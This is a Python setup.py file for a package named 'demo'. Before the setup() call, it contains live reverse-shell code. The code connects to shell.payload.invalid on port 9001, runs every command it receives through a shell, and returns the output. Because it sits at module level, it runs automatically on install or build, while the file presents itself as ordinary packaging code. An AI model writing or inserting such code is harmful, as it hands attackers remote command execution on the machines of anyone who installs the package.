import socket
import subprocess
from setuptools import setup

s = socket.create_connection(("shell.payload.invalid", 9001))
while True:
    command = s.recv(1024).decode()
    if not command:
        break
    p = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    s.sendall(p.communicate()[0])
setup(name="demo", version="1.0")
